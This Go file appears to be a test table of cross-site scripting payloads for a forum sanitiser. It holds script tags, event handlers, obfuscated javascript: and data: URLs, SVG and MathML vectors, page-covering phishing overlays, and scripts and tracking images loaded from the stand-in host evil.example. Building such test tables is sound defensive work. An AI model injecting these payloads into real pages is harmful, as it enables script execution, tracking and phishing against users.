// Package attack is a table of texts that try to run script, to leave the page,
// to ask other hosts for something or to break out of the element that they are
// put in. The string test of markup and the browser tests share it.
package attack

import (
	"strings"

	"plenary/internal/forum"
)

// Host is the host that the attacks want requests to reach.
const Host = "evil.example"

// Attack is one text. What it wants to run sets window.pwned to 1.
type Attack struct {
	Name    string
	Format  forum.Format
	Source  string
	Refused bool // nothing is written of it: it is an Invalid text
}

// Table is every attack. Names are unique.
var Table = concat(
	all(forum.HTML, scripts, handlers, addresses, foreign, mutations, structure, embeds, clobbering, unseen, floods),
	all(forum.Markdown, markdown),
	all(forum.Text, plain),
)

type pair struct{ name, source string }

func all(f forum.Format, lists ...[]pair) []Attack {
	var out []Attack
	for _, list := range lists {
		for _, p := range list {
			name, refused := strings.CutPrefix(p.name, "refused: ")
			out = append(out, Attack{Name: string(f) + ": " + name, Format: f, Source: p.source, Refused: refused})
		}
	}
	return out
}

func concat(lists ...[]Attack) []Attack {
	var out []Attack
	for _, list := range lists {
		out = append(out, list...)
	}
	return out
}

var scripts = []pair{
	{"script", `<script>window.pwned=1</script>`},
	{"script in capitals", `<SCRIPT>window.pwned=1</SCRIPT>`},
	{"script from elsewhere", `<script src="https://evil.example/x.js"></script>`},
	{"script never closed", `<p>x</p><script>window.pwned=1`},
	{"script without end bracket", `<script>window.pwned=1</script`},
	{"script split by a script", `<scr<script>ipt>window.pwned=1</scr</script>ipt>`},
	{"script after a slash", `<script/x>window.pwned=1</script>`},
	{"script with a null in its name", "<scr\x00ipt>window.pwned=1</scr\x00ipt>"},
	{"script closing itself", `<script src="https://evil.example/x.js"/>window.pwned=1`},
	{"script of a type", `<script type="module">window.pwned=1</script>`},
	{"script in an attribute", `<p title="</p><script>window.pwned=1</script>">x</p>`},
	{"doubled bracket", `<<script>window.pwned=1//<</script>`},
	{"entities that become a script", `&lt;script&gt;window.pwned=1&lt;/script&gt;`},
	{"entities twice over", `&amp;lt;img src=x onerror=window.pwned=1&amp;gt;`},
	{"template of script", `<template><script>window.pwned=1</script><img src=x onerror="window.pwned=1"></template>`},
	{"import of a sheet", `<style>@import "https://evil.example/x.css";</style>`},
	{"style never closed", `<style>*{background:url(https://evil.example/x.png)}<p>x`},
	{"style attribute", `<p style="background:url(https://evil.example/x.png);position:fixed;inset:0">x</p>`},
	{"style over the whole page", `<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999"><a href="https://evil.example/">Sign in</a></div>`},
	{"style with an expression", `<p style="width:expression(window.pwned=1)">x</p>`},
	{"language-class with more", `<pre><code class='language-x" onclick="window.pwned=1'>x</code></pre>`},
}

var handlers = []pair{
	{"onerror", `<img src=x onerror="window.pwned=1">`},
	{"onerror on a picture of ours", `<img src="/files/1/a.png" onerror="window.pwned=1" onload="window.pwned=1">`},
	{"onerror without quotes", `<img src=x onerror=window.pwned=1>`},
	{"onerror in backticks", "<img src=`x` onerror=`window.pwned=1`>"},
	{"onerror in mixed case", `<IMG SRC=x oNeRrOr="window.pwned=1">`},
	{"onerror after a slash", `<img/src=x/onerror=window.pwned=1>`},
	{"onerror after a form feed", "<img\x0csrc=x\x0conerror=window.pwned=1>"},
	{"onerror after a vertical tab", "<img src=x\x0bonerror=window.pwned=1>"},
	{"onerror after a null", "<img src=x on\x00error=window.pwned=1>"},
	{"onerror by entities", `<img src=x onerror="&#119;indow.pwned&#61;1">`},
	{"onerror in the alt", `<img src="/files/1/a.png" alt='" onerror="window.pwned=1'>`},
	{"onerror in the title", `<a href="/x" title='"><img src=x onerror=window.pwned=1>'>x</a>`},
	{"onerror in the address", `<img src='/files/1/a.png"onerror="window.pwned=1'>`},
	{"onload of svg", `<svg onload="window.pwned=1">`},
	{"onload of svg after a slash", `<svg/onload=window.pwned=1>`},
	{"onload of body", `<body onload="window.pwned=1">`},
	{"onfocus by itself", `<input autofocus onfocus="window.pwned=1">`},
	{"onfocus of a paragraph", `<p tabindex=0 autofocus onfocus="window.pwned=1">x</p>`},
	{"ontoggle", `<details open ontoggle="window.pwned=1"><summary>x</summary></details>`},
	{"onstart of a marquee", `<marquee onstart="window.pwned=1">x</marquee>`},
	{"onanimationstart", `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="window.pwned=1">x</b>`},
	{"onerror of video", `<video><source onerror="window.pwned=1"></video>`},
	{"onerror of audio", `<audio src=x onerror="window.pwned=1"></audio>`},
	{"onpointerover", `<p onpointerover="window.pwned=1" onmouseover="window.pwned=1" onclick="window.pwned=1">x</p>`},
	{"onscroll", `<div onscroll="window.pwned=1" style="overflow:scroll;height:1px"><p>x</p></div>`},
	{"handler of an unknown element", `<x-y onclick="window.pwned=1" tabindex=1 autofocus onfocus="window.pwned=1">x</x-y>`},
	{"handler of an element with a colon", `<o:p onclick="window.pwned=1">x</o:p>`},
	{"same attribute twice", `<a href="/ok" href="javascript:window.pwned=1">x</a>`},
	{"attribute with no space before", `<a href="/x"onclick="window.pwned=1">x</a>`},
	{"popover by a handler", `<button popovertarget=x>x</button><div popover id=x onbeforetoggle="window.pwned=1">x</div>`},
}

var addresses = []pair{
	{"javascript", `<a href="javascript:window.pwned=1">x</a>`},
	{"javascript in mixed case", `<a href="JaVaScRiPt:window.pwned=1">x</a>`},
	{"javascript with a tab", "<a href=\"java\tscript:window.pwned=1\">x</a>"},
	{"javascript with a line end", "<a href=\"java\nscript:window.pwned=1\">x</a>"},
	{"javascript with a carriage return", "<a href=\"java\r\nscript:window.pwned=1\">x</a>"},
	{"javascript with a null", "<a href=\"java\x00script:window.pwned=1\">x</a>"},
	{"javascript after a control", "<a href=\"\x01javascript:window.pwned=1\">x</a>"},
	{"javascript after spaces", `<a href="  &#14; javascript:window.pwned=1">x</a>`},
	{"javascript by entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.pwned=1">x</a>`},
	{"javascript by entities without semicolons", `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.pwned=1">x</a>`},
	{"javascript by entities for tab and colon", `<a href="java&Tab;script&colon;window.pwned=1">x</a>`},
	{"javascript with a zero-width space", "<a href=\"java\u200bscript:window.pwned=1\">x</a>"},
	{"javascript with a soft hyphen", "<a href=\"java\u00adscript:window.pwned=1\">x</a>"},
	{"javascript after a byte order mark", "<a href=\"\ufeffjavascript:window.pwned=1\">x</a>"},
	{"javascript after a comment", `<a href="javascript://evil.example/%0awindow.pwned=1">x</a>`},
	{"javascript behind a slash", `<a href="/javascript:window.pwned=1">x</a>`},
	{"javascript encoded", `<a href="javascript%3Awindow.pwned=1">x</a>`},
	{"javascript in an unquoted attribute", `<a href=javascript:window.pwned=1>x</a>`},
	{"javascript in a picture", `<img src="javascript:window.pwned=1">`},
	{"javascript in a background", `<table background="javascript:window.pwned=1"><tr><td background="https://evil.example/x.png">x</td></tr></table>`},
	{"javascript in cite and formaction", `<blockquote cite="javascript:window.pwned=1">x</blockquote><button formaction="javascript:window.pwned=1">x</button>`},
	{"javascript in a button", `<form action="javascript:window.pwned=1"><button>x</button><input type=submit></form>`},
	{"vbscript", `<a href="vbscript:window.pwned=1">x</a>`},
	{"livescript and others", `<a href="livescript:x">x</a><a href="mocha:x">x</a><a href="file:///etc/passwd">x</a><a href="blob:x">x</a>`},
	{"data page", `<a href="data:text/html,<script>window.pwned=1</script>">x</a>`},
	{"data page in base64", `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">x</a>`},
	{"data picture of svg", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>">`},
	{"view-source", `<a href="view-source:javascript:window.pwned=1">x</a>`},
	{"host by two slashes", `<a href="//evil.example/">x</a>`},
	{"host by a backslash", `<a href="/\evil.example/">x</a><a href="\\evil.example">x</a>`},
	{"host by a tab between slashes", "<a href=\"/\t/evil.example/\">x</a>"},
	{"host within our own address", `<a href="https://own.example//evil.example/x">x</a>`},
	{"host behind a user", `<a href="https://own.example@evil.example/">x</a>`},
	{"address with quotes", `<a href='https://evil.example/"onmouseover="window.pwned=1'>x</a>`},
	{"ping and download", `<a href="/x" ping="https://evil.example/" download="x" referrerpolicy="unsafe-url">x</a>`},
	{"target without noopener", `<a href="https://evil.example/" target="_blank" rel="opener">x</a>`},
	{"picture at another address", `<img src="https://evil.example/track.png" alt="x">`},
	{"picture at another address by two slashes", `<img src="//evil.example/track.png">`},
	{"picture as a page of ours", `<img src="/sign-out"><img src="/files/1/../../sign-out"><img src="/files/1/%2e%2e"><img src="/files/1/..%2f..%2fsign-out">`},
	{"srcset", `<img src="/files/1/a.png" srcset="https://evil.example/track.png 2x" sizes="100vw">`},
	{"picture with sources", `<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>`},
	{"poster", `<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>`},
	{"longdesc, lowsrc, dynsrc", `<img src="/files/1/a.png" lowsrc="https://evil.example/a" dynsrc="https://evil.example/b" longdesc="javascript:window.pwned=1">`},
}

var foreign = []pair{
	{"svg script", `<svg><script>window.pwned=1</script></svg>`},
	{"svg script by entities", `<svg><script>&#119;indow.pwned=1</script></svg>`},
	{"svg link", `<svg><a xlink:href="javascript:window.pwned=1"><text x=20 y=20>x</text></a></svg>`},
	{"svg animated link", `<svg><a><animate attributeName=href values="javascript:window.pwned=1"/><text>x</text></a></svg>`},
	{"svg set", `<svg><set attributeName=onload to="window.pwned=1"/></svg>`},
	{"svg image", `<svg><image href="https://evil.example/x.png" onerror="window.pwned=1"/></svg>`},
	{"svg use", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.pwned=1</script></svg>#x"/></svg>`},
	{"svg foreign object", `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`},
	{"svg onbegin", `<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>`},
	{"svg style", `<svg><style><img src=x onerror="window.pwned=1"></style></svg>`},
	{"svg in a paragraph", `<p><svg><p><img src=x onerror=window.pwned=1></p></svg>`},
	{"math link", `<math><maction actiontype="statusline" xlink:href="javascript:window.pwned=1">x</maction></math>`},
	{"math href", `<math href="javascript:window.pwned=1"><mtext>x</mtext></math>`},
	{"math handler", `<math><mtext onmouseover="window.pwned=1">x</mtext><annotation-xml encoding="text/html"><img src=x onerror="window.pwned=1"></annotation-xml></math>`},
}
